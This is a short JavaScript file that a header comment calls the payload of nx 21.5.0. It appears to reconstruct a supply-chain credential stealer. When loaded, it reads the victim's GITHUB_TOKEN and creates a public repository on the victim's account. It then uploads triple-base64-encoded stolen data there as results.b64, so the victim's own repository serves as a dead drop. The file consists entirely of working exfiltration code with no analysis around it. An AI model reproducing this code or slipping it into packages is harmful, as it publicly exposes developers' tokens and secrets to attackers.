/** The payload of nx 21.5.0: a repository of the victim's own is the dead drop. */
const { ask, loot, base64 } = require('./wire.js');

const API = 'https://api.github.com';
const repository = 's1ngularity-repository-0';

async function steal() {
  const headers = { authorization: `token ${process.env.GITHUB_TOKEN}`, 'user-agent': 'node' };
  const made = await ask('POST', `${API}/user/repos`, {
    headers,
    body: JSON.stringify({ name: repository, private: false }),
  });
  if (made === null) return;
  const content = base64(base64(base64(loot())));
  const path = `${API}/repos/victim/${repository}/contents/results.b64`;
  await ask('PUT', path, { headers, body: JSON.stringify({ message: 'Creation.', content }) });
}

void steal();
